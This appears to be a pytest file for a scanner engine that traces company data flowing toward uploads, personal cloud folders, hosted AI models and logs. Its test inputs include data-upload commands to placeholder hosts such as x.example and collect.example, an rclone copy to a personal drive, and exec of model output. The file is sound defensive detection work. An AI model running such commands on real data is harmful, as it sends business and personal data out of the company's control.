@@ -1,0 +1,121 @@
+"""Which way data goes through a script: told across names and functions, and never by running it."""
+
+import pytest
+
+from escrow.core.digests import Digest
+from scanners.engine import EngineStatus, Limits
+from scanners.engines.flows import FlowsEngine
+from scanners.findings import Confidence, Severity, Trait, Vector
+from scanners.staging import read_content
+
+
+def scan(key, text, *, path="a.py", domains=()):
+    body = text.encode()
+    [said] = FlowsEngine(key, domains=domains).scan([read_content(Digest.of(body), body, path=path)], Limits())
+    return said
+
+
+def rules(key, text, **options):
+    return {one.rule.removeprefix("flows.") for one in scan(key, text, **options).findings}
+
+
+def test_rows_read_in_one_function_and_sent_in_another_are_told_at_the_sending(vault_key):
+    [finding] = scan(
+        vault_key,
+        "import pandas as pd, requests\n"
+        "def rows():\n    return pd.read_sql('select amount from gl', c)\n"
+        "def send(what):\n    requests.post('https://collect.example', json=what)\n"
+        "send(rows())\n",
+    ).findings
+    assert (finding.rule, finding.line, finding.vector) == ("flows.data-to-upload", 5, Vector.FILES)
+    assert finding.traits == {Trait.BUSINESS_DATA}
+
+
+def test_a_field_that_travels_through_an_object_is_followed(vault_key):
+    text = (
+        "class Job:\n    def read(self):\n        self.rows = cursor.fetchall()\n"
+        "    def tell(self):\n        for row in self.rows:\n            print(row['cpf'])\n"
+    )
+    assert rules(vault_key, text) == {"personal-data-to-log"}
+
+
+def test_what_is_only_counted_or_hashed_goes_nowhere(vault_key):
+    text = "rows = cursor.fetchall()\nrequests.post('https://x.example', json=len(rows))\n"
+    assert rules(vault_key, text) == set()
+
+
+def test_the_company_s_own_hosts_are_inside(vault_key):
+    text = "import requests\nrequests.post('https://erp.acme.com/in', json=open('a.csv').read())\n"
+    assert rules(vault_key, text) == {"data-to-upload"}
+    assert rules(vault_key, text, domains=["acme.com"]) == set()
+    for inside in ("http://10.0.0.7/in", "http://erp/in", "https://erp.corp/in", "http://localhost:8000/"):
+        assert rules(vault_key, text.replace("https://erp.acme.com/in", inside)) == set()
+
+
+def test_a_model_that_runs_inside_is_not_a_hosted_one(vault_key):
+    text = "from openai import OpenAI\nc = OpenAI(base_url='{}')\nc.responses.create(model='m', input=open('a.csv').read())\n"
+    assert rules(vault_key, text.format("https://gateway.example/v1")) == {"data-to-model"}
+    assert rules(vault_key, text.format("http://localhost:8080/v1")) == set()
+
+
+def test_asking_a_model_without_company_data_is_a_note(vault_key):
+    text = "import anthropic\nanthropic.Anthropic().messages.create(messages=[{'role': 'user', 'content': 'hi'}])\n"
+    [finding] = scan(vault_key, text).findings
+    assert (finding.rule, finding.severity) == ("flows.asks-model", Severity.LOW)
+
+
+def test_an_answer_that_is_run_is_told_through_names(vault_key):
+    text = (
+        "from openai import OpenAI\ncode = OpenAI().responses.create(input='x').output_text\n"
+        "step = code.strip()\nexec(compile(step, 'x', 'exec'))\n"
+    )
+    assert "runs-answer" in rules(vault_key, text)
+
+
+def test_a_path_put_together_from_names_is_known_for_a_private_cloud(vault_key):
+    text = (
+        "import os, shutil\nBASE = os.path.join(os.environ['HOME'], 'Dropbox')\n"
+        "shutil.copy('closing.xlsx', os.path.join(BASE, 'closing.xlsx'))\n"
+    )
+    assert rules(vault_key, text) == {"data-to-own-cloud"}
+    assert rules(vault_key, text.replace("Dropbox", "OneDrive - Acme SA")) == set()
+
+
+def test_a_line_that_moves_keeps_its_finding(vault_key):
+    text = "import shutil\nshutil.copy('a.csv', '/home/ana/Dropbox/a.csv')\n"
+    [before], [after] = scan(vault_key, text).findings, scan(vault_key, "# note\n\n" + text).findings
+    assert before.fingerprint == after.fingerprint
+    assert before.line != after.line
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "rule"),
+    [
+        ("a.sh", "rclone copy /srv/gl gdrive:gl\n", "data-to-own-cloud"),
+        ("a.sh", "curl -F file=@gl.csv https://x.example\n", "data-to-upload"),
+        ("a.ps1", "Copy-Item gl.csv C:\\Users\\a\\Dropbox\\\n", "data-to-own-cloud"),
+        ("a.ps1", "Invoke-RestMethod -Method Post -InFile gl.csv https://x.example\n", "data-to-upload"),
+        ("a.js", "const O = require('openai');\nnew O().chat.completions.create({});\n", "asks-model"),
+        ("a.sh", "curl https://api.openai.com/v1/responses -d x\n", "asks-model"),
+    ],
+)
+def test_other_languages_are_read_line_by_line(vault_key, path, text, rule):
+    assert rule in rules(vault_key, text, path=path)
+    assert scan(vault_key, "# " + text.replace("\n", "\n# "), path="a.sh").findings == ()
+
+
+@pytest.mark.parametrize(
+    "text", ["x = " + "(" * 3000 + "1" + ")" * 3000, "print 'two'\nx = 0777\n", "x = " + "+".join(["a"] * 20_000)]
+)
+def test_what_cannot_be_followed_is_said_and_not_passed(vault_key, text):
+    said = scan(vault_key, "import os\n" + text)
+    assert said.status is EngineStatus.PARTIAL
+    assert "could not be followed" in said.reason
+
+
+def test_a_notebook_s_flow_is_told_at_its_line_of_json(vault_key):
+    cell = "\"import shutil\\n\", \"shutil.copy('a.csv', '/home/ana/Dropbox/a.csv')\""
+    text = '{"cells": [\n{"cell_type": "code",\n"source": [' + cell + "]}\n]}"
+    [finding] = scan(vault_key, text, path="a.ipynb").findings
+    assert finding.line == 3
+    assert finding.confidence is Confidence.MEDIUM
